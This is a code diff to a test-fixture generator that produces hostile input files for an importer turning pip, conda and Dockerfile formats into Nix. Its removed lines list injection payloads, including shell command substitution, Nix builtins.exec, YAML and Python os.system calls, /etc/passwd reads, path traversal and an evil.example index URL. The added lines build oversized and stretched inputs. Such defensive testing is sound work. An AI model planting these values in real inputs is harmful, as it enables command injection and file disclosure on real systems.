@@ -1,16 +1,10 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { ImportFormatId, TextFile } from '../../../preload/contract';
 import { givenFile } from '../../../preload/given-file';
-import { seeds } from './seeds';
+import { type HostileFile, text } from './hostile-file';
+import { injections } from './injections';
+import { plainSeeds } from './seeds';
 import { hostileZips } from './zips';
-
-/** A file of somebody who means no good. */
-export interface HostileFile {
-  /** What it tries, for the report of a test. */
-  readonly what: string;
-  readonly file: TextFile;
-}
 
 const realFiles = join(import.meta.dirname, '../../fixtures/real-files');
 
@@ -26,31 +20,25 @@ function createRandom(seed: number): () => number {
 }
 
 /**
- * So many files, the same each time: what would take down a parser, archives, real files that are cut and in other encodings,
- * and for the rest injections into fields of every format. Whatever of it is run makes the file `marker`, an absolute path
- * without blanks.
+ * What would take down a parser, archives, real files that are cut, and each format in other encodings and stretched by blank
+ * lines; the same each time.
  */
-export function hostileFiles(marker: string, count = 500): HostileFile[] {
-  const random = createRandom(5);
-  const fixed = [...greedy(), ...archives(), ...cut(random), ...encoded()];
-  const injected = shuffled(injections(marker), random);
-  // What Nix could run is tried in every field of the kinds that become Nix, the rest as chance has it.
-  const forNix = injected.filter(({ file }) => /"kind": "nix-/.test(file.text) && file.text.includes('builtins.exec'));
-  const others = injected.filter((one) => !forNix.includes(one));
-  return [...fixed, ...forNix, ...others].slice(0, count);
-}
-
-function shuffled<T>(items: readonly T[], random: () => number): T[] {
-  return items
-    .map((item) => ({ item, at: random() }))
-    .sort((a, b) => a.at - b.at)
-    .map(({ item }) => item);
-}
-
-const text = (what: string, content: string, fileName = 'file'): HostileFile => ({
-  what,
-  file: { fileName, text: content },
+export const fixedFiles = () => ({
+  greedy: [...greedy(), ...reported()],
+  stretched: stretched(),
+  archives: archives(),
+  cut: cut(createRandom(5)),
+  encoded: encoded(),
 });
+
+/**
+ * All that is fixed, and injections into every field of every format; none is left out for another. Whatever of it is run
+ * makes the file `marker`, an absolute path without blanks.
+ */
+export const hostileFiles = (marker: string): HostileFile[] => [
+  ...Object.values(fixedFiles()).flat(),
+  ...injections(marker),
+];
 
 const depth = 20_000;
 const mega = 1024 * 1024;
@@ -159,6 +147,27 @@ function greedy(): HostileFile[] {
   ];
 }
 
+/** Files that once took long, each in its own way. */
+function reported(): HostileFile[] {
+  const listed = Array.from({ length: 9900 }, (_, at) => ({ name: `p${at}`, version: '1.0' }));
+  return [
+    text(
+      'a variable of 40 kB in a Dockerfile',
+      `FROM python:3.12\nENV A=1 ${'a'.repeat(40_000)}\nRUN pip install six\n`,
+    ),
+    text('a pip list of 9,900 packages', JSON.stringify(listed)),
+    text('400,000 words of pip in a Dockerfile', `FROM python:3.12\nRUN pip install${' a'.repeat(400_000)}\n`),
+  ];
+}
+
+/** A seed of each format with very many blank lines in it and behind it. */
+function stretched(): HostileFile[] {
+  const blank = '\n'.repeat(60_000);
+  return plainSeeds().map(({ id, plain }) =>
+    text(`60,000 blank lines in ${id}`, `${plain.replace('\n', () => blank)}${blank}`),
+  );
+}
+
 function archives(): HostileFile[] {
   return hostileZips().map(([what, bytes]) => ({
     what: `archive: ${what}`,
@@ -173,18 +182,18 @@ function cut(random: () => number): HostileFile[] {
     const bytes = readFileSync(join(realFiles, name));
     return [0.2, 0.9].map((share): HostileFile => {
       const end = Math.floor(bytes.length * Math.min(1, share + random() * 0.1));
-      return { what: `${name} cut at ${end}`, file: givenFile(name, bytes.subarray(0, end)) };
+      return {
+        what: `${name} cut after about ${share} of it, at ${end}`,
+        file: givenFile(name, bytes.subarray(0, end)),
+      };
     });
   });
 }
 
 /** A seed of each format as bytes of other encodings. */
 function encoded(): HostileFile[] {
-  const all = Object.entries(seeds).flatMap(([id, [seed]]) =>
-    seed === undefined ? [] : [{ id, plain: filled(seed, () => 'x') }],
-  );
   const swapped = (content: string) => Buffer.from(content, 'utf16le').swap16();
-  return all.flatMap(({ id, plain }) =>
+  return plainSeeds().flatMap(({ id, plain }) =>
     Object.entries({
       'UTF-16 with a mark': Buffer.from(`\ufeff${plain}`, 'utf16le'),
       'UTF-16, the other way round': swapped(`\ufeff${plain}`),
@@ -195,84 +204,5 @@ function encoded(): HostileFile[] {
         Buffer.from(plain.slice(20)),
       ]),
     }).map(([how, bytes]): HostileFile => ({ what: `${id} in ${how}`, file: givenFile('file', bytes) })),
-  );
-}
-
-/** What is written into fields. */
-function payloads(marker: string): string[] {
-  const touch = `touch ${marker}`;
-  const exec = `builtins.exec [ "touch" "${marker}" ]`;
-  return [
-    `$(${touch})`,
-    `\`${touch}\``,
-    `; ${touch} #`,
-    `| ${touch}`,
-    `'; ${touch}; '`,
-    `"; ${touch}; "`,
-    `x\n${touch}\n`,
-    `x\r\nRUN ${touch}\r\n`,
-    `\${${exec}}`,
-    `''\${${exec}}''`,
-    `"\${${exec}}"`,
-    `"; x = ${exec}; y = "`,
-    `''; x = ${exec}; y = ''`,
-    `x" (${exec}) "y`,
-    `*/ ${exec} /*`,
-    `\\" \${${exec}} \\"`,
-    `!!python/object/apply:os.system ["${touch}"]`,
-    `__import__("os").system("${touch}")`,
-    `{{ "".__class__ }}{% include "/etc/passwd" %}%(x)s`,
-    '__proto__',
-    'constructor',
-    '--index-url=https://evil.example/simple',
-    '-r/etc/passwd',
-    '-e .',
-    '--install-option=x',
-    '../../../../../../tmp/x',
-    '\u0000',
-    '\u001b]0;title\u0007\u001b[31mred\u001b[2J',
-    'abc\u202ednuof\u2066\u200b',
-    '\ud800',
-    'https://user:secret@evil.example/?token=secret',
-    ' ',
-    'x'.repeat(100_000),
-  ];
-}
-
-const field = /@[A-Z]+@/g;
-
-/** A seed with its fields filled; `@EXPLICIT` has no end and is none. */
-function filled(seed: string, fill: (name: string) => string): string {
-  return seed.replace(field, (name, at: number) => {
-    const value = fill(name);
-    const before = seed.slice(seed.lastIndexOf('\n', at) + 1, at);
-    const isQuoted = (before.match(/"/g)?.length ?? 0) % 2 === 1;
-    return isQuoted ? JSON.stringify(value).slice(1, -1) : value;
-  });
-}
-
-/** What stands in the fields that are not attacked, so that the file is one that is read. */
-const usual: Readonly<Record<string, string>> = {
-  '@PYTHON@': '3.12',
-  '@VERSION@': '1.0',
-  '@MARKER@': 'python_version > "3"',
-  '@HASH@': 'a'.repeat(64),
-  '@PIN@': '',
-  '@ADDRESS@': '',
-  '@CHANNEL@': 'conda-forge',
-  '@SOURCE@': 'https://files.example/six.whl',
-  '@LIMIT@': 'six<2',
-};
-
-function injections(marker: string): HostileFile[] {
-  return (Object.entries(seeds) as [ImportFormatId, readonly string[]][]).flatMap(([id, ofFormat]) =>
-    ofFormat.flatMap((seed) =>
-      [...new Set(seed.match(field))].flatMap((attacked) =>
-        payloads(marker).map((payload, index) => {
-          const content = filled(seed, (name) => (name === attacked ? payload : (usual[name] ?? 'x')));
-          return text(`${id} ${attacked} ${index}: ${JSON.stringify(payload).slice(0, 60)}`, content, `/srv/${id}`);
-        }),
-      ),
-    ),
   );
 }
